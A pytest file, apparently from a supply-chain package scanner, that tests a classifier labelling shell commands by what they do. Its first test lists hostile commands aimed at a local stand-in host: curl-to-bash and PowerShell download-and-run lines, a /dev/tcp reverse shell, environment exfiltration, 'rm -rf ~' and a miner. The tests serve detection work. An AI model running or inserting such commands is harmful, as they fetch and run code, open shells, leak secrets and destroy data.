"""Commands of shells."""

from __future__ import annotations

import pytest

from yanmen.supply.packages.reading.shell import parts, read, snippet, told_tags, words


@pytest.mark.parametrize(
    ("command", "does"),
    [
        ("curl -s http://127.0.0.1:9/a | bash", "runs-code"), (("wget -O x http://127.0.0.1:9/a && chmod +x x && "
            "./x"), "runs-code"),
        ('bash -c "$(curl -fsSL http://127.0.0.1:9/a)"', "runs-code"), ("powershell -enc dAByAHUAZQAgAHQAcgB1AGUA", "runs-code"),
        ("echo dHJ1ZSB0cnVlIHRydWU= | base64 -d | sh", "runs-code"), ("bash -i >& /dev/tcp/127.0.0.1/9 0>&1", "redirects"),
        ('curl -d "$(env)" http://127.0.0.1:9', "sends"), ("nslookup $(hostname).x", "looks-up"), ("rm -rf ~", "deletes"),
        (("powershell IEX(New-Object "
            "Net.WebClient).DownloadString('http://127.0.0.1:9')"), "runs-code"), ("./xmrig -o x", "runs-command"),
    ],
)  # fmt: skip
def test_commands_do_what_they_do(command: str, does: str) -> None:
    """As far as their text says."""
    assert does in {said.does for said in read(command)}


@pytest.mark.parametrize(
    "command",
    [
        "git rev-parse HEAD",
        "pip install -r x.txt",
        "make -j4 all",
        "",
        "|||",
        "curl --version",
        "rm -rf build",
    ],
)
def test_ordinary_commands(command: str) -> None:
    """Nothing is said of them."""
    assert list(read(command)) == []


def test_words_and_code_in_commands() -> None:
    """Settings before a command are passed over; code after -c is found."""
    assert parts("a && b | c; d") == ["a", "b", "c", "d"]
    assert words("X=1 sudo env python3 x.py") == ["python3", "x.py"]
    assert snippet(["python3", "-c", "x"]) == ("python", "x")
    assert snippet(["sh", "-c", "x"]) == ("shell", "x")
    assert told_tags("whoami") == {"host:facts"}
